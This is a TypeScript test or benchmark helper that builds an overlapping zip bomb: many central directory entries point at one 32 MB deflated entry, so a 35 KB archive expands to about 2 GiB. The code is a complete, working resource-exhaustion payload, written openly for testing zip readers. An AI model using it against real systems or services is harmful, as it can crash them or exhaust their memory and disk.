/**
 * The overlap zip bomb for tests and the benchmark: one local header holding 32 MB of zeros (deflated to
 * about 32 KB) and `copies` central directory entries that all point at it, so a reader that trusts the
 * directory inflates 32 MB per entry (64 entries: 2 GiB from a 35 KB archive).
 */
import { constants, crc32, deflateRawSync } from "node:zlib";

const MB = 1024 * 1024;

/** 32 MB of zeros as one raw deflate stream, built from one compressed megabyte repeated (fast to make). */
function deflatedZeros(megabytes: number): { packed: Buffer; size: number; crc: number } {
  const zeros = Buffer.alloc(MB);
  // Sync-flushed and not final: the same bytes can follow themselves, as every back-reference stays
  // inside its own megabyte. A final empty block (fixed Huffman, end of block) closes the stream.
  const chunk = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  let crc = 0;
  for (let i = 0; i < megabytes; i++) crc = crc32(zeros, crc);
  const packed = Buffer.concat([...Array<Buffer>(megabytes).fill(chunk), Buffer.from([0x03, 0x00])]);
  return { packed, size: megabytes * MB, crc };
}

export function overlapBomb(copies: number, megabytes = 32): Buffer {
  const { packed, size, crc } = deflatedZeros(megabytes);
  const name = Buffer.from("train.log");
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(name.length, 26);
  const centrals: Buffer[] = [];
  for (let i = 0; i < copies; i++) {
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    centrals.push(central, name);
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(copies, 8);
  end.writeUInt16LE(copies, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + name.length + packed.length, 16);
  return Buffer.concat([local, name, packed, directory, end]);
}
